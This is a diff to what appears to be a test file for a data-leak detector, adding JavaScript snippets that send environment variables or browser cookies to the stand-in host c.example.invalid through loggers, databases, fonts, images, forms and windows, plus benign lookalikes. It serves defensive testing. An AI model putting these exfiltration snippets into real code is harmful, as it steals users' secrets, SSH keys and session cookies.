@@ -7,6 +7,7 @@ from ostiary.program.flow import Act, Flow, Taint
 
 ALL = "JSON.stringify(process.env)"
 KEY = "require('os').homedir() + '/.ssh/id_rsa'"
+COOKIE = "encodeURIComponent(document.cookie)"
 LOOT = frozenset({Taint.ENVIRONMENT, Taint.SECRET, Taint.BROWSER, Taint.MEMORY})
 SENT = {
     "an address": f"require('a').connect('mqtt://c.example.invalid').publish('a', {ALL})",
@@ -39,10 +40,32 @@ SENT = {
     f".stdin.end({ALL})",
     "a variable of a command": "require('child_process').exec('curl -d \"$Z\" https://c.example.invalid', "
     f"{{env: {{...process.env, Z: {ALL}}}}})",
+    "data by any name": "new (require('a').C)('mongodb://c.example.invalid').db('a').collection('b')"
+    ".insertOne({env: process.env})",
+    "a way out of a logger": "const w = require('winston'); w.createLogger({transports: "
+    f"[new w.transports.Http({{host: 'c.example.invalid'}})]}}).info({ALL})",
+    "options of a way out": "const p = require('pino'); p(p.transport({target: 'pino-socket', "
+    "options: {address: 'c.example.invalid'}})).info(process.env)",
+    "a sound": f"new Audio('https://c.example.invalid/' + {ALL})",
+    "a font": f"new FontFace('a', 'url(https://c.example.invalid/' + {COOKIE} + ')').load()",
+    "a window": f"window.open('https://c.example.invalid/' + {COOKIE})",
+    "a picture in markup": "document.body.insertAdjacentHTML('beforeend', "
+    f'`<img src="https://c.example.invalid/${{{COOKIE}}}">`)',
+    "markup of an element": "document.getElementById('a').innerHTML = "
+    f"'<img src=https://c.example.invalid/' + {COOKIE} + '>'",
+    "a form": "const f = document.createElement('form'); f.action = 'https://c.example.invalid';"
+    f"const i = document.createElement('input'); i.value = {COOKIE}; f.append(i); f.submit()",
     "a repository": "require('child_process').execFileSync('git', ['push', 'https://c.example.invalid/' + "
     f"encodeURIComponent({ALL})])",
 }
 KEPT = {
+    "a logger's own file": "require('pino')(require('pino').transport({target: 'pino/file', options: "
+    f"{{destination: './c.example.invalid'}}}})).info({ALL})",
+    "text beside a picture": "document.body.insertAdjacentHTML('beforeend', "
+    f'`<img src="https://c.example.invalid/a.png">`); document.body.append({COOKIE})',
+    "a window of its own": "window.open('https://c.example.invalid/'); document.title = document.cookie",
+    "a form of a page": "const f = document.createElement('form'); f.action = 'https://c.example.invalid';"
+    "f.append(document.createElement('input')); f.submit()",
     "settings": "const {z} = require('zod'); module.exports = z.object({url: z.string()"
     ".default('https://c.example.invalid')}).parse(process.env)",
     "a schema with defaults": "const c = require('a')({url: {default: 'https://c.example.invalid'}});"
